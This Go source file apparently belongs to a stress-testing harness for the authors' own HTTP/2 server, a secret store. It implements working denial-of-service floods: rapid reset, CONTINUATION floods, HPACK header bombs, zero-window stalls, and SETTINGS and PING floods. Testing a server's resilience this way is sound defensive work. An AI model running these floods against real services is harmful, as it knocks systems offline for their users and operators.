package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/hex"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const oneLarge = `{"secrets":[{"key":"LARGE_7"}]}`

// frames are the attacks by frames of HTTP/2 that no usual client sends.
var frames = []Attack{
	{Name: "windows that stay closed", Bound: "answer", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 40, func(c *conn) error {
			go c.read()
			for i := range 250 {
				if err := c.ask(i, resolve, oneLarge); err != nil {
					return err
				}
			}
			return c.wait(ctx)
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}},
	{Name: "closed windows without credentials", Stranger: true, run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 40, func(c *conn) error {
			go c.read()
			for i := range 1000 {
				if err := c.ask(i, list, "", large()...); err != nil {
					return err
				}
			}
			return c.wait(ctx)
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}},
	{Name: "many small requests without credentials", Stranger: true, run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 1000, func(c *conn) error {
			go c.read()
			for i := range 300 {
				if err := c.ask(i, list, ""); err != nil {
					return err
				}
			}
			return c.wait(ctx)
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}},
	{Name: "answers that are not read", Bound: "answer", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 40, func(c *conn) error {
			for i := range 250 {
				if err := c.ask(i, resolve, oneLarge); err != nil {
					return err
				}
			}
			for { // so that the server has no reason to ask whether we are there
				if err := c.framer.WritePing(true, [8]byte{}); err != nil {
					return err
				}
				soon(ctx, time.Second)
			}
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	}},
	{Name: "streams with large headers", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 40, func(c *conn) error {
			go c.read()
			for i := range 1200 {
				if err := c.ask(i, list, "", large()...); err != nil {
					return err
				}
			}
			return c.wait(ctx)
		})
	}},
	{Name: "rapid reset", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 8, func(c *conn) error {
			go c.read()
			for i := 0; ; i++ {
				if err := c.ask(i, list, ""); err != nil {
					return err
				}
				if err := c.framer.WriteRSTStream(streamOf(i), http2.ErrCodeCancel); err != nil {
					return err
				}
			}
		})
	}},
	{Name: "CONTINUATION", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 20, func(c *conn) error {
			go c.read()
			first := true
			for i := 0; ; i++ {
				c.block.Reset()
				_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-" + unique(), Value: unique(), Sensitive: true})
				var err error
				if first {
					err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block.Bytes()})
				} else {
					err = c.framer.WriteContinuation(1, false, c.block.Bytes())
				}
				if err != nil {
					return err
				}
				first = false
				c.a.sent.Add(1)
			}
		})
	}},
	{Name: "SETTINGS", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 20, func(c *conn) error {
			for {
				if err := c.framer.WriteSettings(); err != nil {
					return err
				}
				c.a.sent.Add(1)
			}
		})
	}},
	{Name: "PING", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 20, func(c *conn) error {
			for {
				if err := c.framer.WritePing(false, [8]byte{1}); err != nil {
					return err
				}
				c.a.sent.Add(1)
			}
		})
	}},
	{Name: "header bombs", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 8, func(c *conn) error {
			go c.read()
			bomb := hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte("b"), 3900))}
			fields := make([]hpack.HeaderField, 4000) // of one or two bytes each, but the first
			for i := range fields {
				fields[i] = bomb
			}
			for i := 0; ; i++ {
				if err := c.ask(i, list, "{}", fields...); err != nil {
					return err
				}
			}
		})
	}},
	{Name: "a header that does not end", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 500, func(c *conn) error {
			go c.read()
			c.fields(list)
			err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block.Bytes()})
			for err == nil && ctx.Err() == nil {
				c.a.sent.Add(1)
				soon(ctx, time.Second)
				err = c.framer.WriteContinuation(1, false, nil)
			}
			return err
		})
	}},
	{Name: "empty frames", run: func(ctx context.Context, a *attacker) {
		a.flood(ctx, 8, func(c *conn) error {
			go c.read()
			if err := c.ask(0, list, ""); err != nil {
				return err
			}
			for {
				if err := c.framer.WriteData(1, false, nil); err != nil {
					return err
				}
				if err := c.framer.WritePriority(1, http2.PriorityParam{Weight: 1}); err != nil {
					return err
				}
				c.a.sent.Add(1)
			}
		})
	}},
}

// unique returns text that is in no table of the other side.
func unique() string {
	var b [400]byte
	_, _ = rand.Read(b[:]) // never fails (Go 1.24)
	return hex.EncodeToString(b[:])
}

// large returns fields of nearly the largest header that the server takes, at whole cost.
func large() []hpack.HeaderField {
	fields := make([]hpack.HeaderField, 17)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: "x-large", Value: unique(), Sensitive: true}
	}
	return fields
}

// A conn is a connection of which every frame is our own.
type conn struct {
	net.Conn

	a       *attacker
	framer  *http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	once    sync.Once
	ended   chan struct{} // closed when read has ended
}

// Write implements [io.Writer].
func (c *conn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.a.bytes.Add(int64(n))
	return n, err
}

func (a *attacker) dial(ctx context.Context, settings []http2.Setting) (*conn, error) {
	config := a.tls.Clone()
	config.NextProtos = []string{"h2"}
	raw, err := dialer.DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return nil, err
	}
	if tcp, ok := raw.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10) // what is not read is the other side's soon
	}
	c := &conn{Conn: tls.Client(raw, config), a: a, ended: make(chan struct{})}
	c.framer = http2.NewFramer(c, c)
	c.encoder = hpack.NewEncoder(&c.block)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		_ = c.Close()
		return nil, err
	}
	if err := c.framer.WriteSettings(settings...); err != nil {
		_ = c.Close()
		return nil, err
	}
	return c, nil
}

// flood runs one on n connections at a time, and opens another one for each that has ended.
func (a *attacker) flood(ctx context.Context, n int, one func(*conn) error, settings ...http2.Setting) {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				c, err := a.dial(ctx, settings)
				if err != nil {
					soon(ctx, 20*time.Millisecond)
					continue
				}
				a.open.Add(1)
				stop := context.AfterFunc(ctx, func() { _ = c.Close() })
				_ = one(c)
				_ = c.Close()
				stop()
				a.open.Add(-1)
				a.ended.Add(1)
			}
		})
	}
	all.Wait()
}

func streamOf(i int) uint32 { return uint32(2*i + 1) } //nolint:gosec // few

func (c *conn) fields(method string, more ...hpack.HeaderField) {
	c.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "localhost"},
		{Name: ":path", Value: "/" + method},
		{Name: "content-type", Value: "application/json"},
	}, more...) {
		_ = c.encoder.WriteField(f) // to memory
	}
}

// ask sends request number i. Without a body it does not end.
func (c *conn) ask(i int, method, body string, more ...hpack.HeaderField) error {
	c.a.sent.Add(1)
	c.fields(method, more...)
	block := c.block.Bytes()
	first := block[:min(len(block), 16<<10)]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: streamOf(i), BlockFragment: first, EndHeaders: len(first) == len(block),
	})
	for block = block[len(first):]; err == nil && len(block) > 0; {
		next := block[:min(len(block), 16<<10)]
		block = block[len(next):]
		err = c.framer.WriteContinuation(streamOf(i), len(block) == 0, next)
	}
	if err == nil && body != "" {
		err = c.framer.WriteData(streamOf(i), true, []byte(body))
	}
	return err
}

// read reads what the server sends, and opens no window.
func (c *conn) read() {
	defer c.once.Do(func() { close(c.ended) })
	decoder := hpack.NewDecoder(4096, func(f hpack.HeaderField) {
		if f.Name == ":status" {
			c.a.answered(f.Value)
		}
	})
	pings := http2.NewFramer(c, nil) // as the other one may be writing
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			_ = c.Close()
			return
		}
		switch f := f.(type) {
		case *http2.HeadersFrame:
			_, _ = decoder.Write(f.HeaderBlockFragment())
		case *http2.RSTStreamFrame:
			c.a.answered("reset")
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = pings.WritePing(true, f.Data)
			}
		}
	}
}

// wait waits until the connection has ended.
func (c *conn) wait(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-c.ended:
		return io.EOF
	}
}
